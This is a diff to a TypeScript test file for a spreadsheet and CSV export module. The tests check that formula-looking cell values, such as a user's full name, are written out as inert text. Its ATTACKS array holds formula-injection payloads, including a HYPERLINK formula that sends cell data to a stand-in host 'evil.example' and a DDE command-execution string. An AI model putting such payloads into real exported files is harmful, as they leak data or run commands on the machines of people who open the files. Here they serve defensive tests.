@@ -5,21 +5,13 @@
  */
 import { after, before, describe, test } from 'node:test';
 import assert from 'node:assert/strict';
-import { PassThrough, type Writable } from 'node:stream';
 import ExcelJS from 'exceljs';
 import { createHarness, type Harness } from '../testing/harness.ts';
 import { demoAgreement } from '../testing/builders.ts';
+import { collect } from '../testing/collect.ts';
 import { csvField, guardCell, safeXlsxBuffer, unguardCell } from './spreadsheet.ts';
 
 const ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "=cmd|' /C calc'!A0", '+1+1', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1'];
-
-async function collect(run: (out: Writable) => Promise<unknown>): Promise<Buffer> {
-  const out = new PassThrough();
-  const chunks: Buffer[] = [];
-  out.on('data', (c: Buffer) => chunks.push(c));
-  await run(out);
-  return Buffer.concat(chunks);
-}
 
 test('guardCell / unguardCell / csvField', () => {
   for (const a of ATTACKS) {
@@ -89,7 +81,8 @@ describe('roster export with formula-looking text', () => {
 
   test('audit trail XLSX: a person whose name starts a formula is written as text', async () => {
     const user = await h.login('admin', 'penyusup');
-    await h.handle.db.updateTable('users').set({ full_name: ATTACKS[0]! }).where('username', '=', 'penyusup').execute();
+    const { id } = (await h.services.auth.findByUsername('penyusup'))!;
+    await h.services.auth.updateUser(h.admin, id, { fullName: ATTACKS[0]! });
     const res = await user.request({ method: 'POST', url: '/api/v1/units', payload: { agreementId, code: 'DISDIK', name: '@SUM(1+1)' } });
     assert.equal(res.statusCode, 201, res.body);
     const wb = new ExcelJS.Workbook();
